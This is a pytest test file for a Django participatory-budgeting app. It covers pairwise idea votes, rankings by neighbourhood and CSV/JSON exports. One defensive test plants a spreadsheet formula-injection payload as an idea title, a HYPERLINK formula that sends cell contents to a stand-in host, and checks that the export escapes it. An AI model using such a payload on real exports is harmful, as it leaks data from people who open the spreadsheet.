from __future__ import annotations

import csv
import io
import json
import uuid

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import translation

from palabre.contributions.services import ActivityClosed
from palabre.opinions import pairwise
from palabre.opinions.models import PairwiseSurvey, PairwiseVote
from palabre.processes.models import Phase

from ..budgets.conftest import move_to_phase
from ..conftest import login
from ..factories import UserFactory, make_contribution, make_process


@pytest.fixture
def box(org_a):
    process = make_process(org_a, title="Boîte à idées")
    move_to_phase(process, Phase.Kind.QUALIFICATION)
    ideas = [make_contribution(process, title=f"Idée {i}", body=f"Idée {i}") for i in range(5)]
    return process, ideas


def url(process, name, **kwargs):
    return reverse(name, kwargs={"org": process.organization.slug, "slug": process.slug, **kwargs})


def test_a_comparison_counts_once_and_only_between_ideas_of_the_pool(box, citizen):
    with translation.override("en"):
        _check_comparisons(*box, citizen)


def _check_comparisons(process, ideas, citizen):
    token = uuid.uuid4()
    kwargs = {"process": process, "voter": citizen, "left": ideas[0], "right": ideas[1]}
    pairwise.pairwise_vote(**kwargs, winner=ideas[0], token=token)
    pairwise.pairwise_vote(**kwargs, winner=ideas[0], token=token)
    assert PairwiseVote.objects.count() == 1
    with pytest.raises(ValidationError, match="one of the two"):
        pairwise.pairwise_vote(**kwargs, winner=ideas[2], token=uuid.uuid4())
    with pytest.raises(ValidationError, match="why"):
        pairwise.pairwise_vote(**kwargs, winner=None, token=uuid.uuid4())
    pairwise.pairwise_vote(**kwargs, winner=None, reason="both", token=uuid.uuid4())
    held = make_contribution(process, title="En attente", held_at="2026-01-01T00:00Z")
    with pytest.raises(ValidationError, match="not open"):
        pairwise.pairwise_vote(
            process=process,
            voter=citizen,
            left=held,
            right=ideas[1],
            winner=held,
            token=uuid.uuid4(),
        )
    move_to_phase(process, Phase.Kind.SYNTHESIS)
    with pytest.raises(ActivityClosed):
        pairwise.pairwise_vote(**kwargs, winner=ideas[1], token=uuid.uuid4())


def test_compare_rank_and_export_through_the_pages(
    box, client, citizen, django_capture_on_commit_callbacks
):
    process, ideas = box
    login(client, citizen)
    with django_capture_on_commit_callbacks(execute=True):
        for _ in range(12):
            page = client.get(url(process, "compare"))
            left, right = page.context["pair"]
            winner = "left" if left.pk < right.pk else "right"  # lower number wins
            response = client.post(
                url(process, "compare"),
                {
                    "left": left.pk,
                    "right": right.pk,
                    "choice": winner,
                    "token": str(page.context["token"]),
                },
            )
            assert response.status_code == 302
        for voter in [UserFactory() for _ in range(4)]:
            for i, a in enumerate(ideas):
                for b in ideas[i + 1 :]:
                    pairwise.pairwise_vote(
                        process=process, voter=voter, left=a, right=b, winner=a, token=uuid.uuid4()
                    )
    survey = PairwiseSurvey.objects.get()
    assert survey.result is not None and survey.requested_at is None
    page = client.get(url(process, "ranking")).content.decode()
    assert page.index("Idée 0") < page.index("Idée 4")
    rows = list(
        csv.DictReader(
            io.StringIO(client.get(url(process, "ranking_export", fmt="csv")).content.decode())
        )
    )
    assert rows[0]["title"] == "Idée 0" and float(rows[0]["low"]) <= float(rows[0]["score"])
    data = json.loads(client.get(url(process, "ranking_export", fmt="json")).content)
    assert data["ranking"][0]["title"] == "Idée 0"
    assert all(name in {"Habitant·e", "Resident"} for name in data["segments"])
    assert client.get(url(process, "ranking_export", fmt="exe")).status_code == 404


def test_a_new_idea_from_the_comparison_waits_for_a_moderator(box, client, citizen):
    process, _ideas = box
    login(client, citizen)
    client.post(
        url(process, "compare_add_idea"), {"title": "Des bancs au parc", "token": str(uuid.uuid4())}
    )
    idea = process.contributions.get(title="Des bancs au parc")
    assert idea.held_at is not None
    assert not pairwise.pool(process).filter(pk=idea.pk).exists()


def test_pairs_are_balanced_and_exclude_the_last_one(box, citizen):
    process, ideas = box
    seen = []
    for _ in range(10):
        left, right = pairwise.next_pair(process=process, voter=citizen)
        assert left != right
        assert {left.pk, right.pk} != set(seen[-1]) if seen else True
        pairwise.pairwise_vote(
            process=process, voter=citizen, left=left, right=right, winner=left, token=uuid.uuid4()
        )
        seen.append((left.pk, right.pk))
    shown = [pk for pair in seen for pk in pair]
    counts = [shown.count(i.pk) for i in ideas]
    assert max(counts) - min(counts) <= 2


def test_rankings_per_neighbourhood_from_consented_profiles(box, client, org_a):
    """Nord prefers idea 0, Sud idea 4; the neighbourhood comes from the profiles people
    filled in with their consent (the evaluation app answers the opinions app's signal)."""
    from palabre.evaluation.services import profile_save

    process, ideas = box
    nord, sud = org_a.neighbourhoods.get(name="Nord"), org_a.neighbourhoods.get(name="Sud")
    for n in range(24):
        voter = UserFactory()
        home = nord if n % 2 == 0 else sud
        if n < 22:  # two people did not describe themselves
            profile_save(organization=org_a, user=voter, consent=True, neighbourhood=home)
        favourite = ideas[0] if home == nord else ideas[4]
        for other in ideas:
            if other == favourite:
                continue
            pairwise.pairwise_vote(
                process=process,
                voter=voter,
                left=favourite,
                right=other,
                winner=favourite,
                reason="",
                token=uuid.uuid4(),
            )
    survey = PairwiseSurvey.objects.get(process=process)
    pairwise.ranking_compute(survey_id=survey.pk)
    view = pairwise.ranking_view(survey=PairwiseSurvey.objects.get(pk=survey.pk))
    assert set(view["neighbourhoods"]) == {"Nord", "Sud"}
    assert view["neighbourhoods"]["Nord"]["ranking"][0]["id"] == str(ideas[0].pk)
    assert view["neighbourhoods"]["Sud"]["ranking"][0]["id"] == str(ideas[4].pk)
    with translation.override("fr"):
        page = client.get(url(process, "ranking")).content.decode()
    assert "Par quartier" in page


def test_the_ranking_csv_never_starts_a_formula(box, client):
    process, ideas = box
    ideas[0].title = '=HYPERLINK("https://exemple.org/?"&A1;"Cliquez")'
    ideas[0].save(update_fields=["title"])
    survey = pairwise.survey_of(process)
    survey.result = {
        "ranking": [
            {
                "id": str(ideas[0].pk),
                "score": -0.5,
                "low": -1.25,
                "high": 0.5,
                "comparisons": 4,
                "wins": 1,
            }
        ]
    }
    survey.save(update_fields=["result"])
    content = client.get(url(process, "ranking_export", fmt="csv")).content.decode()
    row = next(csv.DictReader(io.StringIO(content)))
    assert row["title"] == "'" + ideas[0].title
    assert (row["score"], row["low"]) == ("-0.5", "-1.25")  # numbers are not texts
